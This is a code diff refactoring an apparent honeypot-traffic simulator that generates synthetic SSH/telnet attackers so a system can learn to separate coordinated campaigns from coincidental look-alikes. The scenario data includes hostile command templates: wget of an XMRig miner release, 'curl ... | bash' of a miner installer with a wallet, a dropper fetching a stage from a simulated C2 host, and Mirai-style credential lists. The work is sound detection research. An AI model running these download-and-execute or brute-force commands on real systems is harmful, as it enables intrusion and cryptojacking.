@@ -7,10 +7,11 @@ import base64
 import hashlib
 import random
 import string
+from collections.abc import Callable
 
 from coord_core.contracts.campaigns import Verdict
 from coord_core.scenarios import commands as cmd
-from coord_core.scenarios.clients import GO_COMMON, GO_PLAIN, popular_client
+from coord_core.scenarios.clients import GO_COMMON, GO_PLAIN, ClientProfile, popular_client
 from coord_core.scenarios.credentials import (
     COMMON_CREDENTIALS,
     MIRAI_CREDENTIALS,
@@ -18,8 +19,8 @@ from coord_core.scenarios.credentials import (
     popular_credential,
 )
 from coord_core.scenarios.networks import NetworkKind
-from coord_core.scenarios.schedule import burst, spread, visit
-from coord_core.scenarios.timeline import CommandSpec, bot_pace, plan_session
+from coord_core.scenarios.schedule import Slot, burst, spread, stretch, visit, within
+from coord_core.scenarios.timeline import CommandSpec, Source, bot_pace, new_source
 from coord_core.scenarios.world import HOUR, MINUTE, ActorRecord, Scale, World
 
 _POPULAR_ONE_LINERS = (
@@ -42,6 +43,27 @@ def _wallet(world: World) -> str:
     return "4" + "".join(world.rng.choice(_BASE58) for _ in range(94))
 
 
+def _independent(
+    world: World,
+    archetype: str,
+    note: str,
+    networks: dict[NetworkKind, float],
+    tool: Callable[[random.Random], ClientProfile] = popular_client,
+) -> Source:
+    """One independent attacker of a look-alike crowd: its own actor (never a campaign), address,
+    client (drawn by ``tool``) and pace."""
+    actor = world.new_actor(archetype, Verdict.COINCIDENTAL, note)
+    ip = world.ip_of_kind(networks)
+    port = world.src_port_picker()
+    client = tool(world.rng)
+    return Source(world, actor, ip, port, bot_pace(world.rng), client)
+
+
+def _go_client(rng: random.Random) -> ClientProfile:
+    """The commonest Go build, sometimes its plain sibling."""
+    return GO_COMMON if rng.random() < 0.85 else GO_PLAIN
+
+
 def common_tool_collision(world: World, scale: Scale) -> list[ActorRecord]:
     """Independent attackers who only look alike and collide in time.
 
@@ -54,31 +76,20 @@ def common_tool_collision(world: World, scale: Scale) -> list[ActorRecord]:
     width = rng.randint(3 * MINUTE, 12 * MINUTE)
     at = world.any_time()
     for _ in range(scale.count(rng, 8, 20)):
-        actor = world.new_actor(
+        attacker = _independent(
+            world,
             "common_tool_collision",
-            multi_source=False,
-            verdict=Verdict.COINCIDENTAL,
-            note="independent: commonest client, top-10 passwords and recon, same few minutes",
+            "independent: commonest client, top-10 passwords and recon, same few minutes",
+            {NetworkKind.CLOUD: 0.45, NetworkKind.HOSTING: 0.15, NetworkKind.RESIDENTIAL: 0.4},
+            _go_client,
         )
-        actors.append(actor)
-        ip = world.ip_of_kind(
-            {NetworkKind.CLOUD: 0.45, NetworkKind.HOSTING: 0.15, NetworkKind.RESIDENTIAL: 0.4}
-        )
-        port = world.src_port_picker()
-        client = GO_COMMON if rng.random() < 0.85 else GO_PLAIN
-        pace = bot_pace(rng)
+        actors.append(attacker.actor)
         commands = rng.sample(_POPULAR_ONE_LINERS, rng.choice((1, 1, 2)))
         for start in burst(world, rng.choice((1, 1, 2)), width_us=width, at_us=at):
             attempts = rng.randint(1, 3)
             tried = sorted(rng.sample(range(len(TOP_CREDENTIALS)), attempts))
-            plan_session(
-                world,
-                actor,
-                src_ip=ip,
-                start_us=start,
-                pace=pace,
-                src_port=port,
-                client=client,
+            attacker.session(
+                start,
                 credentials=[TOP_CREDENTIALS[i] for i in tried],
                 success_at=attempts - 1 if rng.random() < 0.4 else None,
                 commands=commands,
@@ -98,19 +109,13 @@ def public_miner_downloads(world: World, scale: Scale) -> list[ActorRecord]:
     archive = cmd.PUBLIC_XMRIG_RELEASE.rsplit("/", 1)[1]
     release = cmd.Payload(cmd.PUBLIC_XMRIG_RELEASE, cmd.public_file_sha256(cmd.PUBLIC_XMRIG_RELEASE))
     for _ in range(scale.count(rng, 4, 10)):
-        actor = world.new_actor(
+        attacker = _independent(
+            world,
             "public_miner_downloads",
-            multi_source=False,
-            verdict=Verdict.COINCIDENTAL,
-            note="independent: same public GitHub release downloaded, own wallet and timing",
+            "independent: same public GitHub release downloaded, own wallet and timing",
+            {NetworkKind.CLOUD: 0.5, NetworkKind.HOSTING: 0.2, NetworkKind.RESIDENTIAL: 0.3},
         )
-        actors.append(actor)
-        ip = world.ip_of_kind(
-            {NetworkKind.CLOUD: 0.5, NetworkKind.HOSTING: 0.2, NetworkKind.RESIDENTIAL: 0.3}
-        )
-        port = world.src_port_picker()
-        client = popular_client(rng)
-        pace = bot_pace(rng)
+        actors.append(attacker.actor)
         commands: list[CommandSpec] = [
             *cmd.recon_commands(rng, 0, 2),
             (f"cd /tmp && wget -q {cmd.PUBLIC_XMRIG_RELEASE} && tar xzf {archive}", (release,)),
@@ -118,24 +123,13 @@ def public_miner_downloads(world: World, scale: Scale) -> list[ActorRecord]:
         ]
         for start in spread(world, rng.choice((1, 1, 2))):
             attempts = rng.randint(1, 4)
-            plan_session(
-                world,
-                actor,
-                src_ip=ip,
-                start_us=start,
-                pace=pace,
-                src_port=port,
-                client=client,
+            attacker.session(
+                start,
                 credentials=[popular_credential(rng) for _ in range(attempts)],
                 success_at=attempts - 1,
                 commands=commands,
             )
     return actors
-
-
-def _c2_host(world: World) -> str:
-    c2 = world.ip_of_kind({NetworkKind.HOSTING: 1.0})
-    return world.fresh(lambda: cmd.payload_host(world.rng, c2))
 
 
 def shared_exploit_two_actors(world: World, scale: Scale) -> list[ActorRecord]:
@@ -149,8 +143,7 @@ def shared_exploit_two_actors(world: World, scale: Scale) -> list[ActorRecord]:
     rng = world.rng
     actors = []
     setup = cmd.Payload(cmd.PUBLIC_MINER_SETUP, cmd.public_file_sha256(cmd.PUBLIC_MINER_SETUP))
-    span = rng.randint(3 * HOUR, 8 * HOUR)
-    start = world.time_between(world.start_us, world.end_us - span)
+    hours = stretch(world, min_us=3 * HOUR, max_us=8 * HOUR)
     first_client = popular_client(rng)
     second_client = popular_client(rng)
     while second_client.hassh == first_client.hassh:
@@ -162,38 +155,29 @@ def shared_exploit_two_actors(world: World, scale: Scale) -> list[ActorRecord]:
     for networks, client in groups:
         actor = world.new_actor(
             "shared_exploit_two_actors",
-            multi_source=True,
-            verdict=Verdict.COORDINATED_CAMPAIGN,
-            note="same public installer as another campaign; own C2, wallet, client and networks",
+            Verdict.COORDINATED_CAMPAIGN,
+            "same public installer as another campaign; own C2, wallet, client and networks",
         )
         actors.append(actor)
-        host = _c2_host(world)
+        host = world.payload_host({NetworkKind.HOSTING: 1.0})
         stage = cmd.drop_name(rng)
         stage_payload = cmd.Payload(f"http://{host}/{stage}", cmd.sha256_hex(rng))
         variant = rng.randrange(3)
         wallet = _wallet(world)
         base = bot_pace(rng)
         offset = rng.randint(-HOUR, HOUR)
+        own_hours = Slot(hours.start_us + offset, hours.end_us + offset)
         for _ in range(scale.count(rng, 5, 12)):
-            ip = world.ip_of_kind(networks)
-            port = world.src_port_picker()
-            for at in sorted(
-                world.time_between(start + offset, start + offset + span) for _ in range(rng.randint(1, 2))
-            ):
+            member = new_source(world, actor, networks, pace=base, client=client)
+            for at in within(world, own_hours, rng.randint(1, 2)):
                 attempts = rng.randint(1, 3)
                 commands: list[CommandSpec] = [
                     *cmd.recon_commands(rng, 0, 1),
                     (f"curl -s -L {cmd.PUBLIC_MINER_SETUP} | bash -s {wallet}", (setup,)),
                     (cmd.dropper_line(host, stage, variant), (stage_payload,)),
                 ]
-                plan_session(
-                    world,
-                    actor,
-                    src_ip=ip,
-                    start_us=at,
-                    pace=base,
-                    src_port=port,
-                    client=client,
+                member.session(
+                    at,
                     credentials=[popular_credential(rng) for _ in range(attempts)],
                     success_at=attempts - 1,
                     commands=commands,
@@ -229,19 +213,13 @@ def urlless_transfers(world: World, scale: Scale) -> list[ActorRecord]:
     actors = []
     old_sensor = rng.choice(world.sensors) if len(world.sensors) > 1 or rng.random() < 0.3 else None
     for _ in range(scale.count(rng, 6, 15)):
-        actor = world.new_actor(
+        attacker = _independent(
+            world,
             "urlless_transfers",
-            multi_source=False,
-            verdict=Verdict.COINCIDENTAL,
-            note="independent: files stored without a URL (redirection, stdin), own content and hash",
+            "independent: files stored without a URL (redirection, stdin), own content and hash",
+            {NetworkKind.CLOUD: 0.4, NetworkKind.HOSTING: 0.25, NetworkKind.RESIDENTIAL: 0.35},
         )
-        actors.append(actor)
-        ip = world.ip_of_kind(
-            {NetworkKind.CLOUD: 0.4, NetworkKind.HOSTING: 0.25, NetworkKind.RESIDENTIAL: 0.35}
-        )
-        port = world.src_port_picker()
-        client = popular_client(rng)
-        pace = bot_pace(rng)
+        actors.append(attacker.actor)
         kind = rng.choice(("key", "key", "echo_binary", "scp", "null_marker"))
         name = "." + "".join(rng.choices(string.ascii_lowercase + string.digits, k=rng.randint(3, 7)))
         if kind == "key":
@@ -272,15 +250,9 @@ def urlless_transfers(world: World, scale: Scale) -> list[ActorRecord]:
                 style = "redir"
             commands: list[CommandSpec] = [*cmd.recon_commands(rng, 0, 2), writer]
             attempts = rng.randint(1, 3)
-            plan_session(
-                world,
-                actor,
-                src_ip=ip,
-                start_us=start,
-                pace=pace,
-                src_port=port,
+            attacker.session(
+                start,
                 sensor=sensor,
-                client=client,
                 credentials=[popular_credential(rng) for _ in range(attempts)],
                 success_at=attempts - 1,
                 commands=commands,
@@ -305,9 +277,8 @@ def public_default_list(world: World, scale: Scale) -> list[ActorRecord]:
     for _ in range(scale.count(rng, 6, 15)):
         actor = world.new_actor(
             "public_default_list",
-            multi_source=False,
-            verdict=Verdict.COINCIDENTAL,
-            note="independent: walks the same public default credential list from its top",
+            Verdict.COINCIDENTAL,
+            "independent: walks the same public default credential list from its top",
         )
         actors.append(actor)
         ip = world.ip_of_kind(
@@ -316,7 +287,7 @@ def public_default_list(world: World, scale: Scale) -> list[ActorRecord]:
         port = world.src_port_picker()
         telnet = rng.random() < telnet_share
         client = None if telnet else popular_client(rng)
-        pace = bot_pace(rng)
+        attacker = Source(world, actor, ip, port, bot_pace(rng), client)
         per_session = rng.randint(2, 6)
         total = rng.randint(4, min(len(public), 30))
         sessions = -(-total // per_session)
@@ -325,15 +296,5 @@ def public_default_list(world: World, scale: Scale) -> list[ActorRecord]:
         for at in times:
             guesses = list(public[cursor : cursor + per_session])
             cursor += per_session
-            plan_session(
-                world,
-                actor,
-                src_ip=ip,
-                start_us=at,
-                pace=pace,
-                src_port=port,
-                protocol="telnet" if telnet else "ssh",
-                client=client,
-                credentials=guesses,
-            )
+            attacker.session(at, protocol="telnet" if telnet else "ssh", credentials=guesses)
     return actors
